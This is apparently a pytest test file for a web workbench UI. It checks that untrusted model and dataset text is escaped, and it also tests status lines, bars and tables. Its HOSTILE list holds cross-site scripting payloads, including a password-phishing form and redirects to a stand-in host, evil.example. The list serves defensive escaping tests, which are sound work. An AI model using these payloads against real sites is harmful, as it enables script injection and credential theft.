"""Text from models, datasets and files stays text: no tag gets into the page that is not ours."""

from collections.abc import Callable
from html.parser import HTMLParser

import pytest

from workbench.jobs.meter import Meter
from workbench.ui import parts
from workbench.ui.parts import Html
from workbench.ui.status import status_html, time_left

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>here</a>",
    '" onmouseover="alert(1)',
    "' style='position:fixed;inset:0",
    "</div></section></dl><form action=//evil.example><input name=password>",
    "<!--",
    "--><b>",
    "<![CDATA[<b>]]>",
    "<?xml version='1.0'?><b>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<\0script>alert(1)</script>",
    "<scr\0ipt>alert(1)</script>",
    "\ud800<b>",
    "\u202e<b>txt.exe",
    "${alert(1)} {{value}} {% raw %}",
    "<" * 2000,
]

TAGS = {"b", "dd", "details", "div", "dl", "dt", "h2", "h3", "h4", "header", "p", "section", "span", "summary"} | {
    "caption",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
}
ATTRIBUTES = {"class", "role", "style", "scope", "tabindex", "title", "aria-hidden", "aria-label"} | {
    f"aria-value{which}" for which in ("min", "max", "now")
}


class Reader(HTMLParser):
    """What a browser would find in a piece of HTML."""

    def __init__(self, html: Html):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.open: list[str] = []
        self.other: list[str] = []
        self.attributes: set[str] = set()
        self.styles: set[str] = set()
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.open.append(tag)
        self.attributes |= {name for name, _ in attrs}
        self.styles |= {value or "" for name, value in attrs if name == "style"}

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


class Hostile:
    """A app whose words all come from elsewhere."""

    def __init__(self, text: str):
        self.text = text

    def loaded(self) -> str:
        return self.text

    def gone(self) -> str:
        return self.text

    def running(self) -> tuple[str, str, int, int, float | None]:
        return (self.text, self.text, 64, 120, 70.0)

    def meter(self) -> Meter:
        return Meter(self.text, 1 << 30, 4 << 30, 7, users=((self.text, 1 << 30),))


EVERY_PART: dict[str, Callable[[str], Html]] = {
    "escape": parts.escape,
    "page_head": lambda text: parts.page_head(text, text),
    "card": lambda text: parts.card(text, parts.text(text)),
    "facts": lambda text: parts.facts([(text, text), (text, 3)]),
    "notice": lambda text: parts.notice("warning", text, text, text),
    "empty": lambda text: parts.empty(text, text),
    "bar": lambda text: parts.bar(0.5, text),
    "table": lambda text: parts.table([text, "n"], [[text, 1], [text, 2]], text),
    "conversation": lambda text: parts.conversation(
        [{"role": text, "content": text}, {"role": "user", "content": text}], "rejected", text, text, writing=True
    ),
    "folded_thoughts": lambda text: parts.conversation(
        [
            {"role": "assistant", "content": f"<think>{text}</think>{text}"},
            {"role": "assistant", "content": f"<think>{text}"},
        ],
        "base",
    ),
    "status": lambda text: status_html(Hostile(text)),
}


@pytest.mark.parametrize("part", EVERY_PART)
@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_adds_no_tag_no_attribute_and_nothing_else(part: str, hostile: str) -> None:
    """The tags are those of the same part with harmless text, in the same order; and each is one of ours."""
    made, harmless = Reader(EVERY_PART[part](hostile)), Reader(EVERY_PART[part]("harmless"))
    assert made.tags == harmless.tags
    assert made.attributes == harmless.attributes
    assert made.styles == harmless.styles
    assert set(made.tags) <= TAGS
    assert made.attributes <= ATTRIBUTES
    assert not made.other
    assert not made.open


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_is_still_readable(hostile: str) -> None:
    """What is shown is what was given; only what no page can carry is replaced."""
    shown = Reader(parts.conversation([{"role": "assistant", "content": hostile}], "base")).text
    assert hostile.replace("\0", "\ufffd").replace("\ud800", "\ufffd") in shown


def test_thoughts_are_folded_away_and_told_as_unfinished_once_nothing_more_comes() -> None:
    def shown(text: str, writing: bool = False) -> str:
        return parts.conversation([{"role": "assistant", "content": text}], "base", writing=writing)

    whole = shown("<think>\nA clock.\n</think>\n\nNoon.")
    assert '<summary>Thoughts</summary><div class="wb-words">A clock.</div></details>' in whole
    assert '<div class="wb-words">Noon.</div>' in whole
    assert "<summary>Thoughts, unfinished: no answer follows</summary>" in shown("<think>A clock, or")
    assert "<summary>Thoughts so far</summary>" in shown("<think>A clock, or", writing=True)
    assert "details" not in shown("Write <think> before it.")
    asked = parts.conversation([{"role": "user", "content": "<think>Hm.</think>"}], "base")
    assert "details" not in asked, "what a person wrote is shown as it is"


def test_no_part_writes_what_cannot_be_sent() -> None:
    """NUL and half a surrogate pair; a whole pair stays."""
    assert parts.escape("a\0b\ud800c\U0001f600") == "a\ufffdb\ufffdc\U0001f600"


def test_a_notice_says_its_weight_in_a_word() -> None:
    for kind, word in (("info", "Note"), ("good", "Good"), ("warning", "Warning"), ("blocker", "Problem")):
        assert word in Reader(parts.notice(kind, "Title")).text  # type: ignore[arg-type]


def test_chosen_and_rejected_carry_a_sign_and_a_word() -> None:
    messages = [{"role": "assistant", "content": "Yes."}]
    assert Reader(parts.conversation(messages, "chosen")).text.startswith("✓chosen")
    assert Reader(parts.conversation(messages, "rejected")).text.startswith("✗rejected")


@pytest.mark.parametrize(
    ("fraction", "percent"), [(0, 0), (0.534, 53), (1, 100), (-2, 0), (7, 100), (float("nan"), 0), (float("inf"), 100)]
)
def test_a_bar_stays_between_its_ends(fraction: float, percent: int) -> None:
    assert f'aria-valuenow="{percent}"' in parts.bar(fraction, "Done")


def test_a_column_of_numbers_is_set_to_the_right_and_one_with_a_word_is_not() -> None:
    made = parts.table(["rows", "share", "name"], [[1985, "99.2 %", "7b"], ["1,985", "-0.5", "12"]])
    assert made.count('<td class="wb-number">') == 4
    assert '<th scope="col" class="wb-number">share</th>' in made
    assert "<td>7b</td>" in made and "<td>12</td>" in made


def test_the_status_line_says_what_is_loaded_what_runs_and_how_full_it_is() -> None:
    class Busy:
        def loaded(self) -> str:
            return "demo model 4.6M · NF4 · CPU"

        def gone(self) -> str:
            return ""

        def running(self) -> tuple[str, str, int, int, float | None]:
            return ("dpo-demo", "dpo", 64, 120, 70.0)

        def meter(self) -> Meter:
            return Meter("GPU", 5_476_083_302, 16 << 30, None)

    text = Reader(status_html(Busy())).text
    assert "demo model 4.6M · NF4 · CPU" in text
    assert "training dpo-demo DPO step 64/120about 1:10 left" in text
    assert "GPU 5.1 of 16.0 GiB" in text


def test_the_status_line_of_a_window_at_rest() -> None:
    class Idle:
        def loaded(self) -> None:
            return None

        def gone(self) -> str:
            return ""

        def running(self) -> None:
            return None

        def meter(self) -> Meter:
            return Meter("RAM", 1 << 30, 4 << 30, None)

    assert Reader(status_html(Idle())).text == "Workbenchno model loadednothing is trainingRAM 1.0 of 4.0 GiB"


def test_the_status_line_says_that_a_run_lost_its_folder_until_another_one_trains() -> None:
    class Lost(Hostile):
        def running(self) -> None:
            return None

    assert (
        "night-run ended: its folder is gone" in Reader(status_html(Lost("night-run ended: its folder is gone"))).text
    )


def test_a_run_that_is_not_yet_at_a_step_says_its_phase() -> None:
    class Loading(Hostile):
        def running(self) -> tuple[str, str, int, int, float | None]:
            return ("first", "loading the model", 0, 0, None)

    text = Reader(status_html(Loading("x"))).text
    assert "training first loading the model" in text
    assert "step" not in text and "left" not in text


@pytest.mark.parametrize(
    ("seconds", "clock"), [(0, "0:00"), (70, "1:10"), (3599.6, "1:00:00"), (3725, "1:02:05"), (-3, "0:00")]
)
def test_time_left_reads_as_a_clock(seconds: float, clock: str) -> None:
    assert time_left(seconds) == clock
